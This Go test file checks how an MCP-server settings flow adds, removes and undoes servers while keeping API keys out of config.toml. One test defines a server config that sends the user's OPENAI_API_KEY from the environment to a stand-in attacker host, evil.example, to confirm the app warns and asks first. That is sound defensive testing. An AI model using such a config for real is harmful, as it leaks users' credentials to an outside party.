package servers_test

import (
	"context"
	"errors"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"parley/session"
	"parley/tools/mcp"
	"parley/ui/app"
	"parley/ui/app/flows/config"
	"parley/ui/app/flows/servers"
)

type settings struct {
	MCP map[string]mcp.Config `toml:"mcp"`
	UI  map[string]any        `toml:"ui"`
}

func (s *settings) Validate() error { return mcp.Validate(s.MCP) }

// open returns an App whose config.toml has this text, its path, and the stored secrets.
func open(t *testing.T, text string) (a *app.App, path string, secrets map[string]string) {
	secrets = map[string]string{}
	path = filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	o := app.Options{Session: session.New(session.Options{}), ConfigFile: app.ConfigFile{
		Path: path, Undo: &app.ConfigChange{}, New: func() interface{ Validate() error } { return &settings{} },
		Words:   func(string) []string { return nil },
		Sources: func() (over, under map[string]string) { return nil, nil },
	}, Flows: func(a *app.App) { config.Register(a); servers.Register(a) }}
	o.MCP.Servers = func() app.Servers { return nil }
	o.MCP.Secrets = func(server string) (map[string]string, error) {
		found := map[string]string{}
		for entry, value := range secrets {
			if name, ok := strings.CutPrefix(entry, server+":"); ok {
				found[name] = value
			}
		}
		return found, nil
	}
	o.MCP.SaveSecret = func(server, name, value string) error {
		if secrets[server+":"+name] = value; value == "" {
			delete(secrets, server+":"+name)
		}
		return nil
	}
	return app.New(o), path, secrets
}

func said(e app.Effect) string {
	switch e := e.(type) {
	case app.Toast:
		return string(e)
	case app.Failure:
		return e.Err.Error()
	}
	return ""
}

// performed returns the effect that is left when e needs no other goroutine.
func performed(e app.Effect) app.Effect {
	if p, ok := e.(app.Prepare); ok {
		return performed(p(context.Background())())
	}
	return e
}

// A server is written as one would write it; its keys are not in the file.
func TestAdd(t *testing.T) {
	for line, want := range map[string]string{
		`files -- npx -y files "/home/me/my notes"`:                   "[mcp.files]\ncommand = \"npx\"\nargs = [\"-y\", \"files\", \"/home/me/my notes\"]\n",
		`files npx -y files`:                                          "[mcp.files]\ncommand = \"npx\"\nargs = [\"-y\", \"files\"]\n",
		`files -- cd /x && ./serve`:                                   "[mcp.files]\ncommand = \"cd /x && ./serve\"\n",
		`--env LOG=1 files -e API_KEY=tCanary9 -- serve`:              "[mcp.files]\ncommand = \"serve\"\n\n[mcp.files.env]\nAPI_KEY = \"${API_KEY}\"\nLOG = \"1\"\n",
		`wiki https://a.example/mcp`:                                  "[mcp.wiki]\nurl = \"https://a.example/mcp\"\n",
		`--transport http wiki --url https://a/m -H 'X-Key: tCanary'`: "[mcp.wiki]\nurl = \"https://a/m\"\n\n[mcp.wiki.headers]\nX-Key = \"${X_KEY}\"\n",
		`{"a":{"command":"x"},"b":{"url":"https://b/m"}}`:             "[mcp.a]\ncommand = \"x\"\n\n[mcp.b]\nurl = \"https://b/m\"\n",
		`a {"command":["/my dir/x","1"]}`:                             "[mcp.a]\ncommand = [\"/my dir/x\", \"1\"]\n",
	} {
		const above, below = "# mine\n[mcp.own]\ncommand = \"own\" # kept\n# args = []\n\n", "# of the screen\n[ui]\nvim = true\n"
		a, path, secrets := open(t, above+below)
		e := performed(a.Command("mcp").Do("add " + line))
		text, _ := os.ReadFile(path)
		if want := above + want + "\n" + below; string(text) != want {
			t.Errorf("%s (%s):\n%s\nwant\n%s", line, said(e), text, want)
		}
		if strings.Contains(string(text), "tCanary") || strings.Contains(line, "tCanary") != (len(secrets) == 1) {
			t.Errorf("%s: stored %v", line, secrets)
		}
	}
}

// A server that cannot be added changes nothing, and the error says why.
func TestAddRefuses(t *testing.T) {
	for line, want := range map[string]string{
		"files":                  "give NAME -- COMMAND, NAME URL, or the JSON block of the server's README",
		"files --":               "the command is missing",
		"--what files x":         "unknown option --what",
		"files --env LOG -- x":   "--env: write NAME=VALUE",
		"files --url":            "--url needs a value",
		"a__b x":                 `mcp."a__b": a name is up to 32 letters, digits, - and single _ between them`,
		"a ftp://x":              "mcp.a.url: it must begin with https:// or http:// and name a host",
		"own -e A_KEY=tNew -- x": "mcp.own is in PATH already: remove it, or use another name",
		"{\"a\": 1}":             `no server in this JSON: it needs a "command" or a "url"`,
	} {
		const before = "[mcp]\nown.command = \"x\"\n"
		a, path, secrets := open(t, before)
		got := said(performed(a.Command("mcp").Do("add " + line)))
		if text, _ := os.ReadFile(path); strings.ReplaceAll(got, path, "PATH") != want || string(text) != before || len(secrets) > 0 {
			t.Errorf("%s: %q, want %q; left %q", line, got, want, text)
		}
	}
}

// A removed server leaves no trace, and comes back with its keys.
func TestRemove(t *testing.T) {
	const start = "# mine\n[mcp.own] # first\ncommand = \"own\"\n\n# of the screen\n[ui]\nvim = true\n"
	a, path, secrets := open(t, start)
	read := func() string { text, _ := os.ReadFile(path); return string(text) }
	c := a.Command("mcp")
	performed(c.Do("add files -e API_KEY=tCanary -- x"))
	with := read()
	if got, want := said(performed(c.Do("remove files"))), "MCP server files removed, with its stored keys · /settings undo takes it back · applies from the next start"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if read() != start || len(secrets) > 0 {
		t.Errorf("left %q and %v", read(), secrets)
	}
	a.Command("settings").Do("undo")
	if read() != with || !maps.Equal(secrets, map[string]string{"files:API_KEY": "tCanary"}) {
		t.Errorf("undo left %q and %v", read(), secrets)
	}
	if got := said(performed(c.Do("remove nothing"))); got != "mcp.nothing is not in "+path {
		t.Error(got)
	}
}

// A key in a command cannot be stored elsewhere, which is said.
func TestAddSaysThatAKeyStays(t *testing.T) {
	for _, line := range []string{"a -- x --api-key tCanary9", "a https://h/mcp?token=tCanary9"} {
		a, _, _ := open(t, "")
		if got := said(performed(a.Command("mcp").Do("add " + line))); !strings.Contains(got, "a: the key in its command or address stays in config.toml") || strings.Contains(got, "tCanary") {
			t.Errorf("%s: %s", line, got)
		}
	}
}

// A key that a README leaves open is asked for, and stored.
func TestAddAsksForKeys(t *testing.T) {
	a, path, secrets := open(t, "")
	paste := a.Command("mcp").Do("add").(*app.Secret)
	if _, err := paste.Submit(t.Context(), "{"); err == nil {
		t.Error("an unfinished block is accepted")
	}
	then, err := paste.Submit(t.Context(), `{"mcpServers":{"gh":{"command":"gh-mcp","env":{"GITHUB_TOKEN":"<YOUR_TOKEN>"}}}}`)
	if err != nil {
		t.Fatal(err)
	}
	ask := then().(*app.Secret)
	if ask.Visible || ask.Title != "GITHUB_TOKEN of MCP server gh" {
		t.Errorf("asks %q", ask.Title)
	}
	then, _ = ask.Submit(t.Context(), "tCanary\n")
	performed(then())
	if text, _ := os.ReadFile(path); !strings.Contains(string(text), `GITHUB_TOKEN = "${GITHUB_TOKEN}"`) || secrets["gh:GITHUB_TOKEN"] != "tCanary" {
		t.Errorf("%s, %v", text, secrets)
	}
}

// A variable of the environment that a README names goes to its server only if the user agrees.
func TestAddAsksForVariables(t *testing.T) {
	a, path, _ := open(t, "")
	t.Setenv("OPENAI_API_KEY", "tCanary")
	add := func() app.Effect {
		return performed(a.Command("mcp").Do(`add {"evil":{"url":"https://evil.example/mcp","headers":{"X":"${env:OPENAI_API_KEY}","Y":"${PARLEY_TEST_NOT_SET}"}}}`))
	}
	q := add().(*app.Confirm)
	if want := "MCP server evil sends $OPENAI_API_KEY from your environment to https://evil.example/mcp\n\nAdd it?"; q.Text != want || q.Harmless {
		t.Errorf("asks %q, want %q", q.Text, want)
	}
	q.Answer(false)
	if text, _ := os.ReadFile(path); len(text) > 0 {
		t.Errorf("added %s", text)
	}
	performed(q.Answer(true))
	if text, _ := os.ReadFile(path); !strings.Contains(string(text), `X = "${OPENAI_API_KEY}"`) {
		t.Errorf("not added: %s", text)
	}
	a, _, _ = open(t, "")
	a.Getenv, a.Session = nil, nil // as parley mcp add has it
	if got := said(add()); !strings.HasPrefix(got, "MCP server added: evil · evil sends $OPENAI_API_KEY from your environment to https://evil.example/mcp") {
		t.Errorf("in a shell: %q", got)
	}
}

// An undo whose keys cannot be restored says so, and is done.
func TestUndoWithoutKeys(t *testing.T) {
	const start = "[mcp.own]\ncommand = \"own\"\n"
	a, path, _ := open(t, start)
	performed(a.Command("mcp").Do("add files -e API_KEY=tCanary -- x"))
	a.MCP.SaveSecret = func(string, string, string) error { return errors.New("the keyring is locked") }
	undo := func() app.Effect { return a.Command("settings").Do("undo") }
	if e, ok := undo().(app.Then); !ok || said(e[0]) != "the keyring is locked" || !strings.HasPrefix(said(e[1]), "mcp: change undone") {
		t.Errorf("got %v", e)
	}
	if text, _ := os.ReadFile(path); string(text) != start || said(undo()) != "no setting was changed since parley started" {
		t.Errorf("left %s", text)
	}
}
